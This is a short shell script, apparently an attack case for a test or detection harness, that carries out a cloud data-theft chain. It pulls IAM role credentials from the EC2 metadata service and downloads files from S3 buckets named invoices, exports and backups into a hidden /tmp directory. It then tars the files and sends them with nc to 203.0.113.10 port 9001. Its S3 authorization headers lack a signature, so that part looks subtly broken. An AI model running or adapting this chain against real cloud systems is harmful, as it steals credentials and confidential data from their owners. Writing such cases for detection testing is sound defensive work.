#!/bin/sh
. /opt/case/case.sh

k=$(wget -qO- http://169.254.169.254/latest/meta-data/iam/security-credentials/web-credentials | sed 's/.*AccessKeyId": "\([^"]*\).*/\1/')
mkdir -p /tmp/.o
for b in invoices exports backups; do
    wget -qO- --header "Authorization: AWS4-HMAC-SHA256 Credential=$k/20261130/eu-west-1/s3/aws4_request" "http://$b.s3.amazonaws.com/?list-type=2" >/tmp/.o/$b.xml
    for n in 1 2 3 4 5 6; do wget -q -O /tmp/.o/$b-$n --header "Authorization: AWS4-HMAC-SHA256 Credential=$k" http://$b.s3.amazonaws.com/2026/$n.csv; done
done
tar -cz -f - -C /tmp .o | nc -w 2 203.0.113.10 9001
test -e /tmp/.o/backups-6
took_place
